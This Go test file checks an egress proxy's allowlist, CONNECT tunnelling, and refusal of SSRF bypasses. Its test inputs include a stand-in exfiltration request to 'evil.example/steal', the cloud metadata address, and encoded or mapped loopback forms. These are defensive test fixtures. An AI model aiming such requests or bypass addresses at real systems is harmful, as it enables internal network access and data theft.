package egress

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/guildhall/guildhall/internal/egresstest"
)

// proxyFixture is a proxy on loopback, the decisions it reported, and a
// client that sends every request through it.
type proxyFixture struct {
	mu        sync.Mutex
	decisions []Decision
	url       *url.URL
	client    *http.Client
}

func newProxy(t *testing.T, g Dialer) *proxyFixture {
	t.Helper()
	f := &proxyFixture{}
	p := &Proxy{Dialer: g, OnDecision: func(d Decision) {
		f.mu.Lock()
		f.decisions = append(f.decisions, d)
		f.mu.Unlock()
	}}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go func() { _ = p.Serve(l) }()
	t.Cleanup(func() { p.Close() })
	f.url = &url.URL{Scheme: "http", Host: l.Addr().String()}
	// Go's own proxy selection skips loopback destinations; force it.
	f.client = &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(f.url), DisableKeepAlives: true}}
	return f
}

func (f *proxyFixture) seen() []Decision {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]Decision(nil), f.decisions...)
}

// upstream is a loopback HTTP server that echoes what it received.
func upstream(t *testing.T) (*httptest.Server, int) {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "upstream saw %s %s host=%s proxy-auth=%q", r.Method, r.URL.Path, r.Host, r.Header.Get("Proxy-Authorization"))
	}))
	t.Cleanup(srv.Close)
	_, port, _ := net.SplitHostPort(srv.Listener.Addr().String())
	n, _ := strconv.Atoi(port)
	return srv, n
}

func mustPolicy(t *testing.T, patterns ...string) Policy {
	t.Helper()
	p, err := ParsePolicy(patterns)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func get(t *testing.T, c *http.Client, u string, header ...string) (int, string) {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, u, nil)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	resp, err := c.Do(req)
	if err != nil {
		return 0, err.Error()
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

func TestProxyForwardsAnAllowedAddress(t *testing.T) {
	srv, port := upstream(t)
	f := newProxy(t, Dialer{Via: "proxy", Policy: mustPolicy(t, "127.0.0.1:"+strconv.Itoa(port))})
	code, body := get(t, f.client, srv.URL+"/simple", "Proxy-Authorization", "Basic c2VjcmV0")
	if code != 200 || !strings.Contains(body, "upstream saw GET /simple") {
		t.Fatalf("%d %s", code, body)
	}
	if strings.Contains(body, "c2VjcmV0") {
		t.Errorf("Proxy-Authorization reached the upstream: %s", body)
	}
	ds := f.seen()
	if len(ds) != 1 || !ds[0].Allowed || ds[0].Host != "127.0.0.1" || ds[0].Port != port || ds[0].Via != "proxy" || ds[0].Rule == "" {
		t.Errorf("decisions %+v", ds)
	}
}

func TestProxyRefusesByNameBeforeConnecting(t *testing.T) {
	dialled := false
	f := newProxy(t, Dialer{Via: "proxy",
		Policy:   mustPolicy(t, "pypi.org"),
		Resolver: egresstest.Resolver{"evil.example": {"203.0.113.9"}},
		Dial: func(context.Context, string, string) (net.Conn, error) {
			dialled = true
			return nil, fmt.Errorf("must not dial")
		},
	})
	code, body := get(t, f.client, "http://evil.example/steal?k=v")
	if code != http.StatusForbidden || !strings.Contains(body, "evil.example (port 80) is not on the network allowlist") ||
		!strings.Contains(body, `"allow": ["evil.example:80"]`) {
		t.Errorf("%d %s", code, body)
	}
	ds := f.seen()
	if len(ds) != 1 || ds[0].Allowed || ds[0].Host != "evil.example" || ds[0].Reason == "" {
		t.Errorf("decisions %+v", ds)
	}
	if dialled {
		t.Error("the proxy connected for a denied host")
	}
}

// CONNECT to a denied host is refused; to an allowed one, the tunnel
// carries bytes both ways, including bytes the client sent at once.
func TestProxyConnect(t *testing.T) {
	echo, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer echo.Close()
	go func() {
		for {
			c, err := echo.Accept()
			if err != nil {
				return
			}
			go func() { defer c.Close(); _, _ = io.Copy(c, c) }()
		}
	}()
	f := newProxy(t, Dialer{Via: "proxy", Policy: mustPolicy(t, echo.Addr().String())})
	connect := func(target string) (string, *bufio.Reader, net.Conn) {
		c, err := net.Dial("tcp", f.url.Host)
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\nearly", target, target)
		br := bufio.NewReader(c)
		line, _ := br.ReadString('\n')
		return line, br, c
	}
	line, _, c := connect("registry.example:443")
	c.Close()
	if !strings.Contains(line, "403") {
		t.Errorf("denied CONNECT answered %q", line)
	}
	line, br, c := connect(echo.Addr().String())
	defer c.Close()
	if !strings.Contains(line, "200") {
		t.Fatalf("allowed CONNECT answered %q", line)
	}
	for {
		l, err := br.ReadString('\n')
		if err != nil || l == "\r\n" {
			break
		}
	}
	fmt.Fprint(c, "-late")
	buf := make([]byte, len("early-late"))
	if _, err := io.ReadFull(br, buf); err != nil || string(buf) != "early-late" {
		t.Errorf("tunnel carried %q, %v", buf, err)
	}
	ds := f.seen()
	if len(ds) != 2 || ds[0].Allowed || !ds[1].Allowed {
		t.Errorf("decisions %+v", ds)
	}
}

// A name on the allowlist reaches its public address, dialled by address;
// a name whose addresses are internal is refused unless the allowlist
// names the address too (SSRF through DNS, cloud metadata, IPv4-mapped
// and NAT64 forms of loopback).
func TestProxyGuardsNamesAgainstInternalAddresses(t *testing.T) {
	srv, port := upstream(t)
	ps := strconv.Itoa(port)
	var dialled []string
	g := Dialer{Via: "proxy",
		Resolver: egresstest.Resolver{
			"registry.test":  {"93.184.216.34"},
			"sneaky.test":    {"127.0.0.1"},
			"mapped.test":    {"::ffff:127.0.0.1"},
			"meta.test":      {"169.254.169.254"},
			"nat64.test":     {"64:ff9b::7f00:1"},
			"lan.test":       {"10.1.2.3", "192.168.1.1"},
			"mixed.test":     {"10.0.0.1", "93.184.216.34"},
			"cgnat.test":     {"100.64.0.1"},
			"trusted.test":   {"127.0.0.1"},
			"unspec.test":    {"0.0.0.0"},
			"ula.test":       {"fd00::1"},
			"linklocal.test": {"fe80::1"},
		},
		Dial: func(ctx context.Context, network, addr string) (net.Conn, error) {
			dialled = append(dialled, addr)
			if addr == "93.184.216.34:"+ps {
				// The test's stand-in for a public address.
				addr = srv.Listener.Addr().String()
			}
			var d net.Dialer
			return d.DialContext(ctx, network, addr)
		},
	}
	g.Policy = mustPolicy(t, "registry.test", "sneaky.test", "mapped.test", "meta.test", "nat64.test", "lan.test",
		"mixed.test", "cgnat.test", "unspec.test", "ula.test", "linklocal.test")
	f := newProxy(t, g)
	// The address itself allowed as well: the name may lead there.
	trusted := g
	trusted.Policy = mustPolicy(t, "trusted.test", "127.0.0.1:"+ps)
	if code, body := get(t, newProxy(t, trusted).client, "http://trusted.test:"+ps+"/pkg"); code != 200 {
		t.Errorf("trusted.test with its address allowed: %d %s", code, body)
	}
	for _, host := range []string{"registry.test", "mixed.test"} {
		code, body := get(t, f.client, "http://"+host+":"+ps+"/pkg")
		if code != 200 || !strings.Contains(body, "upstream saw GET /pkg host="+host) {
			t.Errorf("%s: %d %s", host, code, body)
		}
	}
	for _, host := range []string{"sneaky.test", "mapped.test", "meta.test", "nat64.test", "lan.test", "cgnat.test", "unspec.test", "ula.test", "linklocal.test"} {
		code, body := get(t, f.client, "http://"+host+":"+ps+"/pkg")
		if code != http.StatusForbidden || !strings.Contains(body, "a host name never reaches such an address") {
			t.Errorf("%s: %d %s", host, code, body)
		}
	}
	for _, a := range dialled {
		if a != "93.184.216.34:"+ps && a != "127.0.0.1:"+ps {
			t.Errorf("dialled %s", a)
		}
	}
	denied := 0
	for _, d := range f.seen() {
		if !d.Allowed {
			denied++
			if !strings.Contains(d.Reason, "a host name never reaches such an address") {
				t.Errorf("reason %q", d.Reason)
			}
		}
	}
	if denied != 9 {
		t.Errorf("%d denied decisions, want 9: %+v", denied, f.seen())
	}
}

// An IP literal passes only when the allowlist names that address: a name
// rule never covers an address, whatever the name resolves to.
func TestProxyIPLiteralsNeedTheirOwnRule(t *testing.T) {
	srv, port := upstream(t)
	f := newProxy(t, Dialer{Via: "proxy",
		Policy:   mustPolicy(t, "localhost", "127.0.0.2:"+strconv.Itoa(port)),
		Resolver: egresstest.Resolver{"localhost": {"127.0.0.1"}},
	})
	_ = srv
	for _, u := range []string{
		"http://127.0.0.1:" + strconv.Itoa(port) + "/",
		"http://[::1]:" + strconv.Itoa(port) + "/",
		"http://[::ffff:127.0.0.1]:" + strconv.Itoa(port) + "/",
		"http://0x7f000001:" + strconv.Itoa(port) + "/",
		"http://2130706433:" + strconv.Itoa(port) + "/",
	} {
		if code, body := get(t, f.client, u); code != http.StatusForbidden {
			t.Errorf("%s: %d %s", u, code, body)
		}
	}
	if code, body := get(t, f.client, "http://localhost:"+strconv.Itoa(port)+"/"); code != http.StatusForbidden || !strings.Contains(body, "loopback") {
		t.Errorf("localhost: %d %s", code, body)
	}
}

func TestProxyRefusesWhatIsNotAProxyRequest(t *testing.T) {
	f := newProxy(t, Dialer{Via: "proxy", Policy: mustPolicy(t, "pypi.org")})
	for _, raw := range []string{
		"GET /simple HTTP/1.1\r\nHost: pypi.org\r\n\r\n",
		"CONNECT pypi.org HTTP/1.1\r\nHost: pypi.org\r\n\r\n",
		"CONNECT pypi.org:0 HTTP/1.1\r\nHost: pypi.org:0\r\n\r\n",
		"GET ftp://pypi.org/x HTTP/1.1\r\nHost: pypi.org\r\n\r\n",
	} {
		c, err := net.Dial("tcp", f.url.Host)
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprint(c, raw)
		line, _ := bufio.NewReader(c).ReadString('\n')
		c.Close()
		if !strings.Contains(line, "400") {
			t.Errorf("%q answered %q", raw, line)
		}
	}
	if n := len(f.seen()); n != 0 {
		t.Errorf("%d decisions for malformed requests", n)
	}
}
